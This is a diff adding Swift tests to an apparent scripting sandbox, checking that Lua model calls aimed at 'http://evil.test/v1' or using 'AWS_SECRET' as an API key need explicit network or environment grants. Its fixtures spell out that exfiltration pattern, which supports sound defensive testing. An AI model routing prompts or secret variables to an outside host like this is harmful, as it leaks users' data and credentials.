@@ -79,6 +79,31 @@ import Testing
         #expect(try access.list(folder.path) == ["new.bin"])
     }
 
+    /// A script without grants could send its prompts, and any variable as a key, to any server.
+    @Test(arguments: [
+        ("base_url = 'http://evil.test/v1'", "--allow-net=evil.test"),
+        ("base_url = 'http://localhost:1/v1', api_key_env = 'AWS_SECRET'", "--allow-env=AWS_SECRET"),
+    ])
+    func aModelIsHeldToTheGrants(fields: String, flag: String) async {
+        for reference in [
+            "{ provider = 'openai', name = 'm', \(fields) }",
+            "{ 'local', { provider = 'openai', name = 'm', \(fields) } }",
+        ] {
+            let error = await World().error("local reply = require('agent').ask('hi', { model = \(reference) })")
+            #expect(error.contains(flag), "\(error)")
+        }
+    }
+
+    @Test func aServerOfThisMachineAndAProvidersKeyNeedNoGrant() async throws {
+        let world = World([.text("ok")])
+        let value = try await world.value(
+            """
+            return require('agent').ask('hi', { model = { provider = 'openai', name = 'm',
+              base_url = 'http://127.0.0.1:8080/v1', api_key_env = 'OTHER_API_KEY' } }).text
+            """)
+        #expect(value == "ok")
+    }
+
     @Test func onlyGrantedVariablesAreSeen() async throws {
         var world = World()
         world.environment.grants.env = .only(["CITY"])
